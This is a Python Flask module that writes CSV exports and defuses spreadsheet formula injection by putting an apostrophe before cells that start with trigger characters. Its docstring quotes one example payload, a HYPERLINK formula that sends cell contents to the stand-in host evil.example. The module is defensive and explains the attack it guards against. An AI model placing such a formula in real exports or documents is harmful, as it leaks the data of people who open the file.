"""CSV for spreadsheets: cells that a spreadsheet would run as a formula are made inert.

A title like ``=HYPERLINK("https://evil.example/?"&A1, "klik")`` becomes a live formula when a
civil servant opens the export in Excel or LibreOffice (CSV injection). Text cells starting with
``= + - @``, a tab or a carriage return get a leading apostrophe, which spreadsheets show as text
and which OWASP recommends; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from flask import Response

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # also full-width forms


def inert(value: object) -> object:
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def csv_text(header: list[str], rows: Iterable[Iterable[object]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows([inert(cell) for cell in row] for row in rows)
    return out.getvalue()


def csv_response(filename: str, header: list[str], rows: Iterable[Iterable[object]]) -> Response:
    return csv_file_response(filename, csv_text(header, rows))


def csv_file_response(filename: str, body: str) -> Response:
    return Response(
        body,
        mimetype="text/csv",
        headers={"Content-Disposition": f"attachment; filename={filename}", "X-Content-Type-Options": "nosniff"},
    )
